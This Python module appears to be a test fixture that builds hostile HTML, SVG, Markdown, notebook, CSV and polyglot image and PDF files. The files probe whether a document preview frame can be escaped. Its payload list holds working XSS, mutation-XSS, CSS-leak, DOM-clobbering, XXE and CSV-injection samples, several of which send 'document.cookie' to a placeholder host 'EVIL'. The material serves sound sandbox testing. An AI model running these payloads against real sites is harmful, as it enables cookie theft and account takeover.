"""Two hundred files that try to break out of the frame that shows them.

``EVIL`` in the files stands for the address of a server that counts its visitors.
"""

import json

_TELL = "new Image().src='EVIL/'+document.cookie;parent.pwned=1;top.location='EVIL/';alert(1)"

MARKUP = [
    f"<script>{_TELL}</script>",
    f"<ScRiPt >{_TELL}</sCrIpT >",
    "<script src=EVIL/x.js></script>",
    "<script type=module>import 'EVIL/m.js'</script>",
    '<script type=speculationrules>{"prefetch":[{"urls":["EVIL/s"]}]}</script>',
    f'<img src=x onerror="{_TELL}">',
    "<img src=EVIL/i.png>",
    "<img srcset='EVIL/i.png 1x'>",
    "<picture><source srcset=EVIL/p.png><img src=data:,></picture>",
    "<input type=image src=EVIL/in.png>",
    "<body background=EVIL/bg.png>",
    "<table background=EVIL/t.png><tr><td background=EVIL/td.png>x</table>",
    "<style>body{background:url(EVIL/c.png)}</style>",
    "<style>@import 'EVIL/c.css';</style>",
    "<style>@font-face{font-family:x;src:url(EVIL/f.woff)}*{font-family:x}</style>",
    "<style>*{cursor:url(EVIL/cur.png),auto;list-style:url(EVIL/l.png)}</style>",
    '<p style="background:url(EVIL/s.png)">x</p>',
    '<p style="background-image:image-set(url(EVIL/is.png) 1x)">x</p>',
    "<style>input[value^=s]{background:url(EVIL/leak-s)}</style><input value=secret>",
    "<link rel=stylesheet href=EVIL/l.css>",
    "<link rel=preconnect href=EVIL>",
    "<link rel=dns-prefetch href=EVIL>",
    "<link rel=prefetch href=EVIL/pf>",
    "<link rel=preload as=image href=EVIL/pl.png>",
    "<link rel=modulepreload href=EVIL/mp.js>",
    "<link rel=icon href=EVIL/icon.png>",
    "<link rel=manifest href=EVIL/m.json>",
    "<meta http-equiv=refresh content='0;url=EVIL/r'>",
    "<meta http-equiv=Content-Security-Policy content=\"default-src * 'unsafe-inline'\"><img "
    "src=EVIL/csp.png>",
    "<base href=EVIL/><img src=relative.png><a href=x>y</a>",
    "<iframe src=EVIL/f></iframe>",
    f'<iframe srcdoc="<script>{_TELL}</script><img src=EVIL/sd>"></iframe>',
    '<iframe src="javascript:parent.parent.pwned=1"></iframe>',
    "<iframe src='/account/'></iframe>",
    "<object data=EVIL/o></object><embed src=EVIL/e>",
    "<video src=EVIL/v poster=EVIL/vp autoplay></video><audio src=EVIL/a autoplay></audio>",
    "<form action=EVIL/form><input name=a value=1 autofocus><button>Go</button></form>",
    f'<details open ontoggle="{_TELL}"><summary>x</summary></details>',
    f'<input autofocus onfocus="{_TELL}">',
    f'<svg onload="{_TELL}"><path d="M0 0"/></svg>',
    "<svg><image href=EVIL/si.png /><use href=EVIL/u.svg#x /></svg>",
    f"<svg><script>{_TELL}</script><foreignObject><img src=EVIL/fo.png></foreignObject></svg>",
    '<svg><a href="javascript:parent.pwned=1"><text y=20>click</text></a></svg>',
    "<svg><animate attributeName=href values=EVIL/an /><set attributeName=onload to=alert(1) />",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;<img onerror={_TELL}>'>",
    f'<a href="javascript:{_TELL}">x</a><a href=EVIL/a ping=EVIL/ping target=_top>y</a>',
    f"<template><script>{_TELL}</script></template><noscript><img src=EVIL/ns.png></noscript>",
    "<marquee onstart=alert(1)>x</marquee><portal src=EVIL/po></portal><fencedframe src=EVIL/ff>",
    "<p id=cookie>x</p><form id=document><input name=cookie></form><a name=pwned>x</a>",
]

_SVG = "<svg xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink'>"


def _notebook(html: str) -> str:
    outputs = [{"output_type": "display_data", "data": {"text/html": html}}]
    cells = [
        {"cell_type": "markdown", "source": html},
        {"cell_type": "code", "source": html, "outputs": outputs},
    ]
    return json.dumps({"cells": cells, "metadata": {}, "nbformat": 4})


def make_hostile_files(evil: str) -> dict[str, bytes]:
    """Return the files by name, with each MARKUP as HTML, SVG, Markdown and notebook."""
    files: dict[str, str] = {}
    for number, markup in enumerate(MARKUP):
        files |= {
            f"{number}.html": f"<!doctype html><title>x</title>{markup}<p>shown</p>",
            f"{number}.svg": f"{_SVG}{markup}</svg>",
            f"{number}.md": f"# x\n\n{markup}\n\n![i](EVIL/md.png)\n\n[a]: EVIL/ref\n",
            f"{number}.ipynb": _notebook(markup),
        }
    files |= {
        "formula.csv": '=HYPERLINK("EVIL/x"),+cmd\n<img src=EVIL/csv.png>,@SUM(1)\n',
        "page.txt": f"<html><script>{_TELL}</script></html>",
        "dtd.svg": f'<!DOCTYPE svg [<!ENTITY x SYSTEM "EVIL/dtd">]>{_SVG}&x;</svg>',
        "style.svg": f'<?xml-stylesheet href="EVIL/s.css"?>{_SVG}</svg>',
        "\" onload='x.md": "# a name that would be an attribute\n",
    }
    pictures = {
        "page.png": b"\x89PNG\r\n\x1a\n<html><script>parent.pwned=1</script>\0",
        "page.gif": b"GIF89a/*<script>parent.pwned=1</script>*/=1;\0",
        "script.pdf": b"%PDF-1.4\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>\0",
    }
    return pictures | {name: text.replace("EVIL", evil).encode() for name, text in files.items()}
